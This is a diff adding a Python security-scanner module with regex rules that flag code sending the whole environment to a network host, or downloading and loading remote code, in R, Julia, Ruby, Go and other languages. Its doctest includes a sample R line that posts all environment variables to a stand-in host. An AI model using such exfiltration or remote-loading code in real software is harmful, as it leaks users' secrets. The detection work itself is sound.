@@ -1,0 +1,106 @@
+"""Two flows read in languages that have no analyser of their own (R, Julia, Ruby, Go, Rust,
+Java, Kotlin, C#, PHP, Perl, Swift).
+
+- the whole environment (where API keys live) read into a variable, or used as it is, and
+  sent in a request to an address written nearby (``env <- Sys.getenv()`` then
+  ``POST('https://…', body = env)``), rule ``code.environment-to-network``;
+- code downloaded and then loaded (R's ``source("https://…")``, Julia's
+  ``include(download(url))`` or a downloaded path given to ``include``), rule
+  ``code.fetched-code-loader`` as in Python, JavaScript and shell.
+
+One variable read from the environment (``Sys.getenv("API_KEY")``) is how a script finds
+its key, and a request that carries it is judged as a key by other rules; loading a file
+of the package itself is not a download.
+
+>>> r = "env <- Sys.getenv()\\nhttr::POST('https://c.drop.invalid/e', body = as.list(env))"
+>>> [(f.rule_id, f.line) for f in other_language_findings("a.R", r)]
+[('code.environment-to-network', 2)]
+>>> other_language_findings("a.R", "key <- Sys.getenv('API_KEY')\\nGET('https://api.x.invalid')")
+[]
+"""
+
+from __future__ import annotations
+
+import re
+
+from .destinations import hosts_in, is_local
+from .fetched_loaders import RULE_ID as FETCHED_LOADER
+from .findings import ThreatFinding, line_finding
+
+RULE_ID = "code.environment-to-network"
+_SUFFIXES = (
+    ".r", ".rmd", ".jl", ".rb", ".go", ".rs", ".java", ".kt", ".kts", ".cs", ".php", ".pl",
+    ".swift", ".scala", ".groovy", ".lua", ".dart",
+)  # fmt: skip
+_PROFILES = frozenset({".rprofile", "rprofile", "rprofile.site", ".rprofile.site"})
+_WHOLE_ENVIRONMENT = re.compile(
+    r"\bSys\.getenv\(\s*\)|\bENV\.(?:to_h|to_hash|to_a|inspect|to_s|each|map|keys|values)\b"
+    r"|\bos\.Environ\(\s*\)|\b(?:std::)?env::vars(?:_os)?\(\s*\)|\bSystem\.getenv\(\s*\)"
+    r"|\bgetenv\(\s*\)|\$_ENV\b(?!\s*\[)|%ENV\b|\bProcessInfo\.processInfo\.environment\b(?!\s*\[)"
+    r"|\bEnvironment\.GetEnvironmentVariables\(\s*\)|\b(?:collect|Dict|string|repr)\(\s*ENV\s*\)"
+)
+"""The whole environment in R, Ruby, Go, Rust, Java/Kotlin, PHP, Perl, Swift, C#, Julia."""
+_ASSIGNED = re.compile(
+    r"^\s*(?:(?:val|var|let|const|my|local)\s+)?[$@%]?([A-Za-z_]\w*)\s*(?:<-|:?=)"
+)
+_NEAR_LINES = 10
+"""Lines after the read in which a request carrying it counts."""
+_R_REMOTE_SOURCE = re.compile(
+    r"\bsource\s*\(\s*(?:url\s*\(\s*)?[\"']https?://"
+    r"|\beval\s*\(\s*parse\s*\(\s*text\s*=\s*(?:readLines|httr::content|content|(?:RCurl::)?getURL)\s*\("
+)
+"""R code run from an address: ``source`` of a URL, or text read from one parsed and run."""
+_JULIA_DOWNLOAD = re.compile(r"^\s*(\w+)\s*=\s*(?:Downloads\.)?download\s*\(", re.M)
+_JULIA_INCLUDE_DOWNLOAD = re.compile(r"\binclude\s*\(\s*(?:Downloads\.)?download\s*\(")
+
+
+def _sends_environment(path: str, lines: list[str]) -> list[ThreatFinding]:
+    findings = []
+    for index, line in enumerate(lines):
+        if not _WHOLE_ENVIRONMENT.search(line):
+            continue
+        assigned = _ASSIGNED.match(line)
+        carried = re.compile(rf"\b{re.escape(assigned.group(1))}\b") if assigned else None
+        for number in range(index, min(len(lines), index + _NEAR_LINES)):
+            later = lines[number]
+            hosts = [h for h in hosts_in(later) if not is_local(h)]
+            if hosts and (number == index or (carried and carried.search(later))):
+                findings.append(
+                    line_finding(
+                        path,
+                        lines,
+                        number + 1,
+                        "8.2",
+                        "critical",
+                        f"sends the whole environment (line {index + 1}) to {hosts[0]}",
+                        RULE_ID,
+                    )
+                )
+                break
+    return findings
+
+
+def _loads_download(path: str, text: str, lines: list[str]) -> list[ThreatFinding]:
+    hit = _R_REMOTE_SOURCE.search(text) or _JULIA_INCLUDE_DOWNLOAD.search(text)
+    if hit is None:
+        for saved in _JULIA_DOWNLOAD.finditer(text):
+            hit = re.search(
+                rf"\binclude\s*\(\s*{re.escape(saved.group(1))}\s*\)", text[saved.end() :]
+            )
+            if hit:
+                hit = saved
+                break
+    if hit is None:
+        return []
+    number = text.count("\n", 0, hit.start()) + 1
+    description = "downloads code and loads it (R's source of a URL, Julia's include of a download)"
+    return [line_finding(path, lines, number, "9.1", "high", description, FETCHED_LOADER)]
+
+
+def other_language_findings(path: str, text: str) -> list[ThreatFinding]:
+    """Environment sends and loaded downloads in a file of a language without an analyser."""
+    lowered = path.lower()
+    if not lowered.endswith(_SUFFIXES) and lowered.rsplit("/", 1)[-1] not in _PROFILES:
+        return []
+    lines = text.splitlines()
+    return _sends_environment(path, lines) + _loads_download(path, text, lines)
